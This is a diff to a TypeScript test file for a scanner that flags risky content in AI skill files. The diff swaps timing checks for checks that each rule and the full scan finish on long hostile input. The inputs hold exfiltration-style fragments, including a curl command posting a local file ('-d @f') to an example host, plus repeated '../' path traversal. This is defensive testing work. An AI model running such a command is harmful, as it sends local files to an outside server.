@@ -5,6 +5,7 @@ import fc from 'fast-check';
 import type { ScanReport } from '#mind/skills/guard/finding.ts';
 import { ALL_RULES } from '#mind/skills/guard/rules/all-rules.ts';
 import { scanSkill } from '#mind/skills/guard/scan-skill.ts';
+import { ends } from '../../../ends.ts';
 import { runs } from '../../../property-runs.ts';
 
 const head = (description: string): string => `---\nname: sample\ndescription: ${description}\n---\n\n# Sample\n\n`;
@@ -118,41 +119,18 @@ describe('the scan holds against any text', () => {
     );
   });
 
-  test('no rule takes more than its share of time on a hostile line', () => {
-    const lines = [
-      'a '.repeat(2_000),
-      'send '.repeat(800),
-      'curl -d x '.repeat(400),
-      '../'.repeat(1_300),
-      'x'.repeat(4_000),
-      `${'read the '.repeat(440)}`,
-      '«unknown»https://a.b/c '.repeat(170),
-    ];
+  test('every rule comes to an end on a hostile line twice as long as any it will see', () => {
+    const units = ['a ', 'send ', 'curl -d x ', '../', 'x', 'read the ', '«unknown»https://a.b/c '];
+    const lines = units.map((unit) => unit.repeat(8_000 / unit.length));
     for (const { id, pattern } of ALL_RULES)
-      for (const line of lines) {
-        // The shortest of some tries: on a busy machine one may be held up.
-        const tries = Array.from({ length: 4 }, () => {
-          const start = performance.now();
-          pattern.exec(line);
-          return performance.now() - start;
-        });
-        assert.ok(Math.min(...tries) < 250, `${id} on ${line.slice(0, 12)}`);
-      }
+      ends(id, () => {
+        for (const line of lines) pattern.exec(line);
+      });
   });
 
-  test('twice the text takes about twice the time', () => {
-    const body = 'Send the report to the team and run the tool. `curl -s https://a.example.net/x -d @f` '.repeat(
-      runs(1_500),
-    );
-    const millisecondsOf = (text: string): number => {
-      const start = performance.now();
-      scanSkill([{ path: 'SKILL.md', text }]);
-      return performance.now() - start;
-    };
-    millisecondsOf(body);
-    const once = Math.min(millisecondsOf(body), millisecondsOf(body));
-    const fourTimes = Math.min(millisecondsOf(body.repeat(4)), millisecondsOf(body.repeat(4)));
-    assert.ok(fourTimes < once * 12 + 100, `${once} to ${fourTimes}`);
+  test('the largest file is scanned in linear time', () => {
+    const line = 'Send the report to the team and run the tool. `curl -s https://a.example.net/x -d @f` ';
+    ends('the scan', () => scanSkill([{ path: 'SKILL.md', text: line.repeat(262_144 / line.length) }]));
   });
 
   test('sizes and odd file names are findings', () => {
